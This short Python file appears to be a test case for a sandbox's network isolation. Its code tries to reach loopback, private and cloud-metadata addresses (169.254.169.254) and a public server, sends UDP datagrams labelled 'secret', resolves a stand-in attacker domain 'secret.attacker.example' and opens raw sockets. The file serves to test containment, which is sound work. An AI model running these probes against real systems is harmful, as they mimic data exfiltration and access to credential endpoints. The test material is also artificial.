"""The host's servers, the internet and name servers are called."""

EXTRA = [
    """
import socket, urllib.request
for host in ("127.0.0.1", "localhost", "10.0.0.1", "169.254.169.254", "172.17.0.1", "8.8.8.8", "::1"):
    attempt(f"connect to {host}", lambda: socket.create_connection((host, @TCP@), 0.5))
for host in ("127.0.0.1", "8.8.8.8", "255.255.255.255"):
    def datagram():
        sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sender.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        return sender.sendto(b"secret", (host, @UDP@))
    attempt(f"send to {host}", datagram)
attempt("resolve a name", lambda: socket.gethostbyname("secret.attacker.example"))
attempt("open a page", lambda: urllib.request.urlopen("http://127.0.0.1:@TCP@/", timeout=0.5))
attempt("other interfaces", lambda: [n for _, n in socket.if_nameindex() if n != "lo"][0])
attempt("raw packets", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
attempt("ping", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
"""
]
POINTS = "all"
